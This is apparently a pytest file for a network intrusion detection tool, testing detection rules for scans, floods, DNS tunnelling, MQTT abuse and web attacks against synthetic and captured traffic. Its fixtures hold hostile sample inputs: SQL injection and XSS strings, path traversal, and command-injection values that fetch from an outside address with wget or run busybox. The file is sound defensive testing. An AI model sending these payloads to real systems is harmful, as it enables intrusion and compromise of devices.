"""Every rule that ships hits what it is about, and leaves alone what only looks like it."""

from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple

import pyarrow as pa
import pytest

from bundles import START_NS
from redshank.alerts.group import Groups
from redshank.alerts.severity import FAMILIES
from redshank.capture.sources.pcap import Pcap
from redshank.core.records import FAMILY_NAME
from redshank.core.schema import verdict_batch
from redshank.detect.detectors.signatures import Signatures
from redshank.detect.fuse import fuse
from redshank.detect.sigma.columns import Columns
from redshank.detect.sigma.ruleset import STARTER, Ruleset, load_rules
from redshank.detect.sigma.watchlist import Watchlist, as_network
from redshank.flows.sources.sensor import Sensor
from sigma_rules import rows

BAD = as_network("203.0.113.0/24")
assert BAD is not None
RULES: Ruleset = load_rules(
    [STARTER], {"bad_addresses": Watchlist([BAD]), "bad_domains": Watchlist(names=["bad.example"])}
)
SPEAKING = {rule.name: rule for rule in RULES.speaking()}


class Case(NamedTuple):
    """What a rule is to hit, and what it is to leave alone."""

    hits: pa.RecordBatch
    misses: pa.RecordBatch


def case(count: int, miss: dict[str, Any], /, **columns: Any) -> Case:
    """Return `count` flows that are hit, and as many, of which `miss` says what differs, that are not."""
    return Case(rows(count, **columns), rows(count, **{**columns, **miss}))


def slowly(step_s: float) -> dict[str, Any]:
    """Return what differs if flows are `step_s` apart."""
    return {"ts": lambda i: START_NS + round(i * step_s * 1e9)}


def each(text: str) -> Callable[[int], str]:
    """Return a text with the row's number in it."""
    return text.format


PROBE: dict[str, Any] = {"conn_state": "S0", "history": "S"}
PORTS: dict[str, Any] = {**PROBE, "dst_port": lambda i: 1000 + i}
DEVICES: dict[str, Any] = {"dst_ip": each("10.0.0.{}")}
ANSWERED: dict[str, Any] = {"conn_state": "SF", "history": "ShADadFf"}
TALK: dict[str, Any] = {**ANSWERED, "src_bytes": 60, "dst_bytes": 80}
UDP: dict[str, Any] = {"proto": "udp", "dst_pkts": 0, "conn_state": "S0"}
ECHO: dict[str, Any] = {"proto": "icmp", "src_port": 8, "dst_port": 0}
WEB: dict[str, Any] = {**TALK, "service": "http", "http_method": "GET", "http_uri": "/", "http_status_code": 200}
MQTT: dict[str, Any] = {**TALK, "service": "mqtt", "dst_port": 1883, "mqtt_level": 4, "mqtt_connect_code": 0}
DNS: dict[str, Any] = {
    "proto": "udp",
    "service": "dns",
    "dst_port": 53,
    "dns_qtype": 1,
    "dns_query": each("a{}.example"),
}
LONG = "{}" + "x" * 60 + ".tunnel.example"
OUTSIDE: dict[str, Any] = {**TALK, "src_ip": "198.51.100.7"}

CASES = {
    "telnet-sweep": case(10, {"dst_ip": "10.0.0.9"}, dst_port=23, **DEVICES),
    "host-sweep": case(12, ANSWERED, dst_port=8080, **PROBE, **DEVICES),
    "port-scan": case(15, slowly(10), **PORTS),
    "slow-port-scan": case(35, {"dst_port": lambda i: 1000 + i % 20}, **PORTS, **slowly(60)),
    "udp-port-scan": case(15, {"dst_port": lambda i: 33434 + i}, dst_port=lambda i: 1000 + i, **UDP),
    "udp-host-sweep": case(25, {"dst_ip": each("224.0.0.{}")}, dst_port=5000, **UDP, **DEVICES),
    "ping-sweep": case(10, {"dst_ip": "10.0.0.9"}, **ECHO, **DEVICES),
    "scanner-user-agent": case(1, {"http_user_agent": "Mozilla/5.0"}, **WEB, http_user_agent="sqlmap/1.8"),
    "ssh-guessing": case(10, slowly(20), dst_port=22, **TALK),
    "telnet-guessing": case(10, {"src_bytes": 0}, dst_port=23, **TALK),
    "mqtt-guessing": case(8, {"mqtt_connect_code": 0}, **{**MQTT, "mqtt_connect_code": 5}),
    "http-guessing": case(17, {"http_status_code": 200}, **{**WEB, "http_status_code": 401}),
    "http-login-burst": case(10, slowly(2), **{**WEB, "http_method": "POST", "http_uri": "/login"}),
    "http-login-flood": case(32, {"http_uri": "/about"}, **{**WEB, "http_method": "POST", "http_uri": "/login"}),
    "telnet-session": case(1, {"dst_bytes": 0}, dst_port=23, **TALK),
    "ftp-session": case(1, {"dst_port": 22}, dst_port=21, **TALK),
    "admin-from-outside": case(1, {"src_ip": "10.0.0.5"}, dst_port=22, **OUTSIDE),
    "syn-flood": case(45, {"history": "ShADadFf"}, history="S", dst_port=80, src_ip=each("198.51.100.{}")),
    "ack-flood": case(35, {"history": "ShADadFf"}, history="Dr", src_pkts=1),
    "http-flood": case(12, {"http_trans_depth": 2}, **WEB, http_trans_depth=3),
    "http-flood-together": case(
        40, {"dst_ip": each("10.0.1.{}")}, **{**WEB, "http_trans_depth": 2}, src_ip=each("10.0.0.{}")
    ),
    "flow-flood": case(45, slowly(1), **ANSWERED),
    "synack-reflection": case(40, {"src_pkts": 1}, src_pkts=0, dst_pkts=1, history="^h", **DEVICES),
    "udp-flood": case(45, {"src_ip_bytes": 70}, dst_port=5683, src_ip_bytes=1000, **UDP),
    "slow-http": case(20, {"dst_bytes": 200}, **{**WEB, "dst_bytes": 0, "duration": 1.0}),
    "icmp-flood": case(1, {"src_gap_mean_s": 1.0}, **ECHO, src_pkts=1000, src_gap_mean_s=0.001),
    "udp-stream-flood": case(1, {"dst_ip": "239.1.1.1"}, **UDP, src_pkts=9000, src_gap_mean_s=0.0001),
    "datagram-reflection": case(
        20, {"src_pkts": 1}, proto="udp", dst_port=161, src_pkts=0, dst_pkts=1, history="^d", **DEVICES
    ),
    "ntp-amplifier": case(1, {"dst_size_max_bytes": 76.0}, proto="udp", dst_port=123, dst_size_max_bytes=468.0),
    "ssdp-amplifier": case(1, {"src_ip": "10.0.0.5"}, proto="udp", dst_port=1900, dst_pkts=3, src_ip="198.51.100.7"),
    "dns-any-flood": case(25, {"dns_qtype": 1}, **{**DNS, "dns_qtype": 255}),
    "dhcp-flood": case(110, slowly(1), proto="udp", src_port=68, dst_port=67, ts=lambda i: START_NS + i * 10**7),
    "mqtt-without-connect": case(1, {"mqtt_level": 4}, **{**MQTT, "mqtt_level": None, "mqtt_publishes": 2}),
    "mqtt-subscribe-all": case(
        1, {"mqtt_topics": "home/#,home/+/state"}, **MQTT, mqtt_topics="home/x,#", mqtt_subscribes=1
    ),
    "mqtt-from-outside": case(1, {"src_ip": "fd00::7"}, **{**MQTT, "src_ip": "2001:db8::7"}),
    "dns-many-long-names": case(20, {"dns_query": LONG.format(0)}, **{**DNS, "dns_query": each(LONG)}),
    "dns-many-text-records": case(25, {"dns_query": each("{}.in-addr.arpa")}, **{**DNS, "dns_qtype": 16}),
    "dns-tunnel-flow": case(
        1, {"dns_query": "short.example"}, **{**DNS, "dns_query": LONG, "src_bytes": 90_000, "src_pkts": 300}
    ),
    "dns-long-name": case(1, {"dns_query": LONG}, **{**DNS, "dns_query": "y" * 60 + "." + LONG}),
    "beacon-to-rare-port": case(12, {"service": "http"}, dst_port=4444, duration=0.1, **TALK, **slowly(10)),
    "unknown-protocol-on-web-port": case(2, {"service": "http"}, dst_port=8080, **TALK),
    "irc": case(1, {"service": None}, dst_port=6667, service="irc", **TALK),
    "icmp-tunnel": case(1, {"src_size_std_bytes": 0.0}, **ECHO, src_pkts=100, src_size_std_bytes=80.0),
    "known-bad-address": case(1, {"dst_ip": "203.0.114.7"}, dst_ip="203.0.113.7"),
    "known-bad-domain": case(1, {"ssl_server_name": "good.example"}, ssl_server_name="www.bad.example"),
    "sql-in-request": case(1, {"http_uri": "/search?q=union+jack"}, **{**WEB, "http_uri": "/?q=1'+UNION+SELECT+a,b"}),
    "script-in-request": case(1, {"http_uri": "/descript?t=bodywork"}, **{**WEB, "http_uri": "/?t=%3Cscript%3Ealert"}),
    "command-in-request": case(
        1, {"http_uri": "/?a=b;c=cat"}, **{**WEB, "http_uri": "/x?ip=;wget+http://198.51.100.7"}
    ),
    "path-traversal": case(1, {"http_uri": "/a/../b"}, **{**WEB, "http_uri": "/a/..%2f..%2fboot.ini"}),
    "upnp-command": case(
        1, {"http_method": "GET"}, **{**WEB, "http_method": "POST", "http_uri": "/ctrlt/DeviceUpgrade_1"}
    ),
    "upnp-from-outside": case(1, {"src_ip": "192.168.1.5"}, **{**WEB, "dst_port": 5000, "src_ip": "198.51.100.7"}),
    "two-macs-for-one-address": case(2, {"dst_mac": "02:00:00:00:00:01"}, dst_mac=each("02:00:00:00:00:0{}"), **TALK),
    "arp-second-owner": case(1, {"weird_name": None}, proto="arp", weird_name="arp_second_owner"),
    "smb-spread": case(10, {"dst_ip": "10.0.0.9"}, dst_port=445, **DEVICES),
    "bulk-rewrite": case(
        15,
        {"src_bytes": 200},
        **{**WEB, "http_uri": each("/f/{}"), "http_trans_depth": 2, "src_bytes": 900, "dst_bytes": 900},
    ),
}


def test_every_rule_has_its_case_and_every_case_its_rule() -> None:
    assert SPEAKING.keys() == CASES.keys()


@pytest.mark.parametrize("name", CASES)
def test_a_rule_hits_what_it_is_about(name: str) -> None:
    rule = SPEAKING[name]
    assert rule.hits(Columns(CASES[name].hits), rule.window()).any()


@pytest.mark.parametrize("name", CASES)
def test_a_rule_leaves_alone_what_only_looks_like_it(name: str) -> None:
    rule = SPEAKING[name]
    assert not rule.hits(Columns(CASES[name].misses), rule.window()).any()


@pytest.mark.parametrize("name", CASES)
def test_a_rule_says_what_it_means_and_when_it_is_wrong(name: str) -> None:
    rule = SPEAKING[name]
    assert len(rule.description) > 20
    assert rule.falsepositives
    assert all(text != "Unknown" for text in rule.falsepositives)
    assert rule.techniques
    assert rule.family in FAMILIES
    assert FAMILY_NAME.fullmatch(rule.family)
    assert rule.file.stem == rule.name


@pytest.mark.parametrize("fused", [False, True])
@pytest.mark.parametrize(
    ("name", "family", "techniques"),
    [
        ("upnp-from-outside", "attack", ("T1133", "T0883")),
        ("smb-spread", "ransomware", ("T1021.002", "T1570", "T1486", "T0886", "T0867", "T0826", "T0828")),
    ],
)
def test_an_alert_has_the_techniques_of_its_rule_whether_it_judges_alone_or_with_a_model(
    name: str, family: str, techniques: tuple[str, ...], *, fused: bool
) -> None:
    flows = CASES[name].hits
    said = Signatures().judge(flows)
    model = verdict_batch({"detector": ["classifier"] * flows.num_rows}, flows.num_rows)
    groups = Groups()
    (alert,) = [*groups.add(flows, fuse([said, model]) if fused else said), *groups.finish()]
    assert (alert.family, alert.rules, alert.techniques) == (family, (name,), techniques)


@pytest.mark.parametrize(
    ("per_s", "rules"), [(1.4, {"http-flood-together"}), (6.0, {"http-flood-together", "http-flood"})]
)
def test_four_devices_that_each_hold_back_flood_together(per_s: float, rules: set[str]) -> None:
    asks = {**WEB, "http_trans_depth": 4, "src_bytes": 500, "dst_ip": "10.0.0.9", "dst_port": 80}
    flows = rows(72, **{**asks, **slowly(1 / (4 * per_s))}, src_ip=lambda i: f"10.0.1.{i % 4}")
    assert {name for name, rule in SPEAKING.items() if rule.hits(Columns(flows), rule.window()).any()} == rules


def test_five_people_who_browse_at_once_are_no_flood() -> None:
    # What the busiest ten seconds of four quiet homes of the lab had: 15 such flows, for a minute.
    asks = {**WEB, "http_trans_depth": 3, "src_bytes": 500, "dst_ip": "10.0.0.9", "dst_port": 80}
    flows = rows(90, **{**asks, **slowly(10 / 15)}, src_ip=lambda i: f"10.0.1.{i % 5}")
    assert not [name for name, rule in SPEAKING.items() if rule.hits(Columns(flows), rule.window()).any()]


POSTED = {
    "script-in-request": (
        ["text=<script>alert(1)</script>", "name=x&text=<img+src=x+onerror=alert(1)>", "t=<a href='javascript:run()'>"],
        ["text=<b>bold</b> and <img src=cat.png>", "text=a < b; we go on = good", "say=javascript: why I like it"],
    ),
    "sql-in-request": (
        ["user=admin' OR '1'='1&password=x", "q=x')+UNION+SELECT+name,pass+FROM+users"],
        ["text=that's a union; select what's best", "text=Tom's and Ann's = 2", "text=it's -- well -- fine"],
    ),
    "command-in-request": (
        [
            "target_addr=;wget http://198.51.100.7/x&waninf=1",
            "host=`busybox`",
            "ip=1.1.1.1|/bin/busybox+ps",
            "a=$(tftp",
        ],
        ["text=a dog; cat and mouse", "text=(costs $(5)", "text=I use curl; it is nice"],
    ),
}


@pytest.mark.parametrize("name", POSTED)
def test_a_rule_reads_what_is_posted_and_leaves_prose_alone(name: str) -> None:
    rule, (hits, misses) = SPEAKING[name], POSTED[name]
    texts = [*hits, *misses]
    flows = rows(len(texts), **{**WEB, "http_method": "POST", "http_post_body": texts.__getitem__})
    assert rule.hits(Columns(flows), rule.window()).tolist() == [True] * len(hits) + [False] * len(misses)


def test_rules_that_only_count_have_no_level_that_alarms() -> None:
    assert all(rule.level == "informational" for rule in RULES.rules if rule.silent)


def test_the_watchlists_that_ship_are_empty() -> None:
    for name in ("bad_addresses", "bad_domains"):
        assert not Watchlist.load(STARTER / f"{name}.txt")


DETECTOR = cache(Signatures)


def met(path: Path) -> set[str]:
    """Return the rules that alarm on a capture."""
    detector = DETECTOR()
    detector._running = [(rule, rule.window()) for rule, _ in detector._running]  # knows nothing of other captures
    alarms: set[str] = set()
    for batch in Sensor(Pcap(path)).batches():
        verdicts = detector.judge(batch)
        for names in verdicts.filter(verdicts.column("alarm")).column("rules").to_pylist():
            alarms.update(names)
    return alarms


@pytest.mark.data
@pytest.mark.parametrize(
    "name",
    [
        *("doh__ethernet_26may_benign.pcap", "iot-dataset__blink-cam-01.pcap", "iot-dataset__schlage-lock-01.pcap"),
        *("iot-dataset__ultraloq-hub-01.pcap", "ivre__nb6-startup.pcap", "ndpi__alexa-app.pcapng"),
        *("ndpi__coap_mqtt.pcap", "ndpi__tplink_shp.pcap", "ndpi__zabbix.pcap", "zeek__mqtt.pcap"),
    ],
)
def test_benign_captures_raise_no_alarm(data: Path, name: str) -> None:
    assert met(data / "pcaps" / "benign-iot" / name) == set()


@pytest.mark.data
@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("packets__synscan.pcapng", "port-scan"),
        ("pcaphunt__hs-udpScan.pcap", "udp-host-sweep"),
        ("slips__test12-icmp-portscan.pcap", "ping-sweep"),
        ("zeek__sshguess.pcap", "ssh-guessing"),
        ("zeek__dhcp_flood.pcap", "dhcp-flood"),
        ("ndpi__dns-tunnel-iodine.pcap", "dns-tunnel-flow"),
        ("ndpi__sql_injection.pcap", "sql-in-request"),
        ("ndpi__xss.pcap", "script-in-request"),
        ("packets__arppoison.pcapng", "two-macs-for-one-address"),
        ("ddos__amp.UDP.snmp.src161.pcapng", "datagram-reflection"),
        ("ddos__pkt.TCP.DOMINATE.syn.ecn.cwr.pcapng", "syn-flood"),
        ("iot-testbed__final_slow_dos_02.pcap", "slow-http"),
    ],
)
def test_attack_captures_are_told(data: Path, name: str, rule: str) -> None:
    assert rule in met(data / "pcaps" / "attacks" / name)
